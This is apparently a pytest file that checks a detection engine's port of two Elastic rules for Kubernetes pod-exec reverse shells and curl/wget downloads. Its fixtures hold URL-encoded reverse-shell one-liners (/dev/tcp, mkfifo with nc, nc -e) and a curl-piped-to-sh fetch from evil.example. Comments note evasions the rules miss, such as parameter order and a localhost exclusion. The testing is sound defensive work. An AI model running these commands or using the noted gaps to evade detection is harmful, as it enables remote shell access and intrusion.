"""The two Elastic seed rules, end to end, against hand-derived ES|QL results.

Every expected ``Esql.executed_command`` below was worked out by applying the rules' stages by
hand (URL_DECODE, the GROK's lazy ``raw_commands``, the three REPLACEs); the comments show the
steps. These are the cases where a naive port diverges from Elastic.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import pytest

import auditstream.detections.esql.functions as esql_functions
from auditstream.detections.engine import Detector
from auditstream.detections.event.decode import decode_message, events_from_json
from auditstream.detections.ruleset.loader import BUILTIN_RULES, load_rules
from devtools.traffic.synthetic import as_ecs, as_event_list, as_wrapped
from tests.unit.esql_harness import audit_event

REVERSE_SHELL = "f1a2b3c4-d5e6-4789-a012-3456789abc01"
CURL_WGET = "c9d4e8f1-2a3b-4c5d-8e9f-0a1b2c3d4e5f"
POD = "/api/v1/namespaces/default/pods/web-7d4b9/exec"


@pytest.fixture(scope="module")
def elastic_only() -> Detector:
    rules = load_rules([BUILTIN_RULES / "kubernetes_pod_exec_potential_reverse_shell.toml",
                        BUILTIN_RULES / "kubernetes_pod_exec_curl_or_wget_to_https.toml"],
                       builtin=False)  # fmt: skip
    assert not rules.problems
    return Detector(rules.rules)


def fired(detector: Detector, uri: str, subresource: str = "exec") -> dict[str, dict[str, Any]]:
    event = audit_event(uri)
    event["objectRef"]["subresource"] = subresource
    (decoded,) = events_from_json(event)
    return {hit.rule.rule_id: dict(hit.fields) for hit in detector.detect(decoded)}


CASES: list[tuple[str, str, set[str], str | None]] = [
    (
        # kubectl sorts keys: command..., container, stderr, stdout. Decoded raw_commands is
        # "command=bash&command=-c&command=bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"; the lazy
        # DATA stops at the first "&container=". Then "command=" -> "", "&" -> " ".
        "kubectl reverse shell",
        POD + "?command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F203.0.113.9%2F4444"
        "+0%3E%261&container=app&stderr=true&stdout=true",
        {REVERSE_SHELL},
        "bash -c bash -i >  /dev/tcp/203.0.113.9/4444 0> 1",
    ),
    (
        "python client curl https piped to sh",
        POD
        + "?command=%2Fbin%2Fsh&command=-c&command=curl+https%3A%2F%2Fevil.example%2Fx.sh+%7C+sh"
        "&container=app&stderr=True&stdin=False&stdout=True&tty=False",
        {CURL_WGET},
        "/bin/sh -c curl https://evil.example/x.sh | sh",
    ),
    (
        # The JavaScript client puts stdout first: raw_commands is "stdout=true", so neither
        # rule sees the command. Elastic misses this; so must we, for parity.
        "javascript client order hides the command",
        POD + "?stdout=true&stderr=true&stdin=false&tty=false&container=app&command=sh&command=-c"
        "&command=nc%20-e%20%2Fbin%2Fsh%20203.0.113.9%204444",
        set(),
        None,
    ),
    (
        "rancher order hides the command",
        POD + "?container=app&stdout=1&stdin=1&stderr=1&tty=1&command=sh&command=-c"
        "&command=wget%20https%3A%2F%2Fevil.example%2Fm",
        set(),
        None,
    ),
    (
        # One malformed escape anywhere makes URL_DECODE null, so nothing downstream matches.
        "malformed escape nulls the whole URI",
        POD + "?command=sh&command=-c&command=nc+-e+%2Fbin%2Fsh+203.0.113.9+4444%zz&container=a"
        "&stdout=true",
        set(),
        None,
    ),
    (
        # GROK's DATA cannot cross a newline, so a newline in an argument drops the command.
        "newline inside an argument",
        POD + "?command=sh&command=-c&command=id%0Anc+-e+%2Fbin%2Fsh+203.0.113.9+4444&container=a"
        "&stdout=true",
        set(),
        None,
    ),
    (
        # %2B decodes to '+': "command" keeps it, Esql.executed_command turns it into a space.
        "encoded plus is replaced in executed_command only",
        POD + "?command=wget&command=https%3A%2F%2Fevil.example%2Fa%2Bb&container=a&stdout=true",
        {CURL_WGET},
        "wget https://evil.example/a b",
    ),
    (
        # Health-check exclusion matches anywhere in the command: "localhost" hides the fetch.
        "exclusion anywhere suppresses a real download",
        POD + "?command=sh&command=-c&command=curl+-s+https%3A%2F%2Fevil.example%2Fx+-o+%2Ftmp%2Fx"
        "%3B+echo+localhost&container=a&stdout=true",
        set(),
        None,
    ),
    (
        # The reverse-shell exclusion: /dev/tcp/localhost/8080 is a local health check.
        "local /dev/tcp health check is excluded",
        POD
        + "?command=bash&command=-c&command=echo+%3E+%2Fdev%2Ftcp%2Flocalhost%2F8080&container=a"
        "&stdout=true",
        set(),
        None,
    ),
    (
        # "bash -i >& ..." alone is not matched by the 'bash\s+-i\s+>&' alternative: in Lucene
        # syntax that alternative is an intersection that matches nothing. No /dev/tcp here.
        "bash -i redirect alternative matches nothing",
        POD + "?command=bash&command=-c&command=bash+-i+%3E%26+3+0%3E%261&container=a&stdout=true",
        set(),
        None,
    ),
    (
        "mkfifo reverse shell",
        POD
        + "?command=sh&command=-c&command=rm+%2Ftmp%2Ff%3Bmkfifo+%2Ftmp%2Ff%3Bcat+%2Ftmp%2Ff%7Csh"
        "+-i+2%3E%261%7Cnc+203.0.113.9+4444+%3E%2Ftmp%2Ff&container=a&stdout=true",
        {REVERSE_SHELL},
        "sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2> 1|nc 203.0.113.9 4444 >/tmp/f",
    ),
    (
        "routine ls",
        POD + "?command=ls&command=-la&container=a&stderr=true&stdout=true",
        set(),
        None,
    ),
    (
        "curl to kubernetes.default.svc is excluded",
        POD + "?command=curl&command=-sk&command=https%3A%2F%2Fkubernetes.default.svc%2Fapi"
        "&container=a&stdout=true",
        set(),
        None,
    ),
]


@pytest.mark.parametrize(("name", "uri", "rules", "executed"), CASES, ids=[c[0] for c in CASES])
def test_seed_rules_match_elastic(
    elastic_only: Detector, name: str, uri: str, rules: set[str], executed: str | None
) -> None:
    hits = fired(elastic_only, uri)
    assert set(hits) == rules
    for fields in hits.values():
        assert fields["Esql.executed_command"] == executed
        assert set(fields) == {"decoded_uri", "raw_commands", "command", "Esql.executed_command"}


def test_attach_and_proxy_are_not_exec_for_the_elastic_rules(elastic_only: Detector) -> None:
    uri = POD + "?command=bash&command=-c&command=nc+-e+%2Fbin%2Fsh+h+1&container=a&stdout=true"
    assert fired(elastic_only, uri, subresource="attach") == {}
    proxy = "/api/v1/nodes/n1/proxy/exec/default/web/app?command=nc&command=-e&command=%2Fbin%2Fsh"
    assert fired(elastic_only, proxy + "&stdout=true", subresource="proxy") == {}


def test_shared_stages_run_once_per_event(monkeypatch: pytest.MonkeyPatch) -> None:
    calls: list[str] = []
    real: Callable[[str], str | None] = esql_functions.java_url_decode

    def counting(text: str) -> str | None:
        calls.append(text)
        return real(text)

    monkeypatch.setattr(esql_functions, "java_url_decode", counting)
    rules = load_rules()  # compiled after the patch, so URL_DECODE closures use the counter
    detector = Detector(rules.rules)
    assert detector.shared_stages == 6  # WHERE, EVAL URL_DECODE, GROK and three EVAL REPLACEs
    uri = POD + "?command=curl&command=https%3A%2F%2Fevil.example&container=a&stdout=true"
    (event,) = events_from_json(audit_event(uri))
    detector.detect(event)
    assert len(calls) == 1


SHAPES: dict[str, Callable[[dict[str, Any]], object]] = {
    "event": lambda e: e,
    "event_list": lambda e: as_event_list([e]),
    "array": lambda e: [e],
    "ecs_nested": lambda e: as_ecs(e, layout="nested"),
    "ecs_flattened": lambda e: as_ecs(e, layout="flattened"),
    "ecs_mixed": lambda e: as_ecs(e, layout="mixed"),
    "wrapped_log": lambda e: as_wrapped(e, "log"),
    "wrapped_message_ecs": lambda e: as_wrapped(as_ecs(e), "message"),
}


@pytest.mark.parametrize("shape", SHAPES)
@pytest.mark.parametrize(("name", "uri", "rules", "executed"), CASES, ids=[c[0] for c in CASES])
def test_seed_rules_give_the_same_answer_in_every_input_shape(
    elastic_only: Detector, shape: str, name: str, uri: str, rules: set[str], executed: str | None
) -> None:
    message = json.dumps(SHAPES[shape](audit_event(uri))).encode()
    (event,) = decode_message(message)
    hits = {hit.rule.rule_id: dict(hit.fields) for hit in elastic_only.detect(event)}
    assert set(hits) == rules
    for fields in hits.values():
        assert fields["Esql.executed_command"] == executed
